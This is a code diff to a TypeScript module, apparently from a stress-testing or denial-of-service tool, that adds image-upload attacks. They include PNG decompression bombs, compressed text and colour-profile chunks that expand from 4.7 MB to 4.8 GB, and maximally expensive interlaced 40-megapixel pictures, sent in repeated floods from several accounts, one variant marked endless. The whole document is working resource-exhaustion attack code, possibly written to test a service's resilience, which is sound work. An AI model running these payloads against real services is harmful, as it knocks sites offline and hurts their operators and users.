@@ -1,7 +1,8 @@
 import { setTimeout as delay } from 'node:timers/promises'
 import { crc32, deflateSync } from 'node:zlib'
+import sharp from 'sharp'
 import type { Attack, Target } from '../attack.ts'
-import { flood, loops, openUnread } from '../send.ts'
+import { flood, loops, openUnread, send } from '../send.ts'
 
 /**
  * Uploads: a picture that is cheap to send and expensive to decode, very slow bodies, and forms of tiny
@@ -10,9 +11,11 @@ import { flood, loops, openUnread } from '../send.ts'
 
 const HEIGHT = 40_000_000
 
-/** A complete, valid PNG of one grey column: 80 kB that decode to 40,000,000 pixels. */
-function tallPicture(): Buffer {
-  const chunk = (type: string, data: Buffer) => {
+type Chunk = [type: string, data: Buffer]
+
+/** A complete, valid PNG of one grey column. */
+function column(height: number, texts: Chunk[] = []): Buffer {
+  const chunk = ([type, data]: Chunk) => {
     const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
     const ends = Buffer.alloc(8)
     ends.writeUInt32BE(data.length, 0)
@@ -21,16 +24,16 @@ function tallPicture(): Buffer {
   }
   const header = Buffer.alloc(13)
   header.writeUInt32BE(1, 0)
-  header.writeUInt32BE(HEIGHT, 4)
+  header.writeUInt32BE(height, 4)
   header[8] = 8
-  return Buffer.concat([
-    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
-    chunk('IHDR', header),
-    // A filter byte and a pixel for each row.
-    chunk('IDAT', deflateSync(Buffer.alloc(2 * HEIGHT))),
-    chunk('IEND', Buffer.alloc(0)),
-  ])
+  // A filter byte and a pixel for each row.
+  const pixels = deflateSync(Buffer.alloc(2 * height))
+  const chunks: Chunk[] = [['IHDR', header], ...texts, ['IDAT', pixels], ['IEND', Buffer.alloc(0)]]
+  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), ...chunks.map(chunk)])
 }
+
+/** 80 kB that decode to 40,000,000 pixels. */
+const tallPicture = () => column(HEIGHT)
 
 let made = 0
 const placeFor = (target: Target, number: number) => {
@@ -49,6 +52,55 @@ const tallPictures: Attack = {
     const headers = { 'content-type': 'image/png' }
     return flood(target, 4, () => ({ method: 'POST', ...placeFor(target, 0), body, headers }))
   },
+}
+
+const TEXT_BYTES = 50_000_000
+const TEXTS = 96
+
+/** 4.7 MB whose texts and profiles expand to 4.8 GB. */
+function pictureOfTexts(): Buffer {
+  const packed = deflateSync(Buffer.alloc(TEXT_BYTES))
+  const kinds: Chunk[] = [
+    ['zTXt', Buffer.concat([Buffer.from('k\0\0'), packed])],
+    ['iTXt', Buffer.concat([Buffer.from('k\0\x01\0\0\0'), packed])],
+    ['iCCP', Buffer.concat([Buffer.from('k\0\0'), packed])],
+  ]
+  return column(
+    10,
+    Array.from({ length: TEXTS }, (_, i) => kinds[i % kinds.length]).filter((one) => one !== undefined),
+  )
+}
+
+/** Two accounts send the same picture again and again, each twice at a time. */
+const sendByTwo = (target: Target, body: Buffer) =>
+  loops(target, 4, (loop) => {
+    const headers = { 'content-type': 'image/png' }
+    return send(target, { method: 'POST', ...placeFor(target, loop % 2), body, headers }, 4)
+  })
+
+const compressedTexts: Attack = {
+  name: 'pictures of compressed texts',
+  uploads: true,
+  run: (target) => sendByTwo(target, pictureOfTexts()),
+}
+
+/** A picture that costs the decoder as much as any that it accepts, about 2 s of a core: interlaced, with the most pixels. */
+const costlyPicture = () =>
+  sharp({ create: { width: 6320, height: 6320, channels: 4, background: '#88442280' } })
+    .png({ progressive: true, compressionLevel: 1 })
+    .toBuffer()
+
+const costlyPictures: Attack = {
+  name: 'pictures of 40 megapixels',
+  uploads: true,
+  run: async (target) => sendByTwo(target, await costlyPicture()),
+}
+
+const endlessPictures: Attack = {
+  name: 'pictures that the decoder never finishes',
+  uploads: true,
+  endless: true,
+  run: async (target) => sendByTwo(target, await costlyPicture()),
 }
 
 const ACCOUNTS = 10
@@ -89,4 +141,11 @@ const tinyParts: Attack = {
   },
 }
 
-export const uploadAttacks = [tallPictures, trickledUploads, tinyParts]
+export const uploadAttacks = [
+  tallPictures,
+  compressedTexts,
+  costlyPictures,
+  endlessPictures,
+  trickledUploads,
+  tinyParts,
+]
